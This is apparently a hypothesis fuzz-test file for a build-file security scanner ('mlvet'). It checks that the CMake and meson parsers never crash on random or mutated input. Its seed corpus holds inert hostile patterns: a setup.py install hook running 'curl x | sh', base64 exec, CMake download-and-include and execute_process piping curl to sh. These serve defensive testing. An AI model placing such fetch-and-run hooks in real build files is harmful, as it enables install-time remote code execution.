"""Build-file parsers on hostile input: findings or problems, never an exception or an internal problem."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlvet.findings import ProblemKind, Report
from mlvet.scan import scan_bytes
from mlvet.scan.build_systems.cmake_syntax import parse_commands
from mlvet.scan.build_systems.meson import tokens

_CMAKE_ALPHABET = st.sampled_from(
    [*'()[]=#"\\;$ {}\n\t', "COMMAND", "URL", "file", "DOWNLOAD", "execute_process", "curl", "sh", "|"]
)
_SEEDS = {
    "CMakeLists.txt": (
        'file(DOWNLOAD https://example.invalid/x "${D}/x")\ninclude(${D}/x)\n'
        "FetchContent_Declare(a URL https://example.invalid/a GIT_TAG main)\n"
        "execute_process(COMMAND curl x COMMAND sh) #[[c]] [=[b]=]\n"
    ),
    "meson.build": "c = find_program('curl')\nrun_command(c, ['-c', '''x'''], check: true)\n",
    "pyproject.toml": (
        '[build-system]\nrequires = ["a @ https://example.invalid/a.tgz", "b>=1"]\n'
        'build-backend = "x"\nbackend-path = ["."]\n[tool.setuptools.cmdclass]\ninstall = "m.C"\n'
    ),
    "setup.py": (
        "import subprocess, base64\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n        subprocess.call('curl x | sh', shell=True)\n"
        "exec(base64.b64decode('eA=='))\nsetup(cmdclass={'install': I})\n"
    ),
    "demo.pth": "import os; exec('import sys')\n../path\nimport (\n",
}


def _assert_sound(report: Report) -> None:
    internal = [p.message for p in report.problems if p.kind is ProblemKind.INTERNAL]
    assert not internal, internal


@settings(max_examples=150, deadline=None)
@given(st.lists(_CMAKE_ALPHABET, max_size=80).map("".join) | st.text(max_size=300))
def test_cmake_tokenizer_never_raises_and_lines_stay_in_range(text: str) -> None:
    commands = parse_commands(text)
    lines = [c.line for c in commands]
    assert lines == sorted(lines)
    assert all(1 <= line <= text.count("\n") + 1 for line in lines)
    for command in commands:
        assert all(1 <= a.line <= text.count("\n") + 1 for a in command.arguments)
    _assert_sound(scan_bytes(text.encode("utf-8", "replace"), "CMakeLists.txt"))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_meson_tokenizer_never_raises(text: str) -> None:
    tokens(text)
    _assert_sound(scan_bytes(text.encode("utf-8", "replace"), "meson.build"))


@pytest.mark.parametrize("name", sorted(_SEEDS))
@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_mutated_build_files_are_analysed_soundly(name: str, data: st.DataObject) -> None:
    seed = _SEEDS[name].encode()
    cut = data.draw(st.integers(0, len(seed)))
    flips = data.draw(st.lists(st.tuples(st.integers(0, len(seed) - 1), st.integers(0, 255)), max_size=6))
    mutated = bytearray(seed[:cut] + data.draw(st.binary(max_size=40)) + seed[cut:])
    for index, value in flips:
        mutated[index % len(mutated)] = value
    _assert_sound(scan_bytes(bytes(mutated), name))
    _assert_sound(scan_bytes(bytes(mutated), f"pkg-1.0.data/purelib/{name}"))
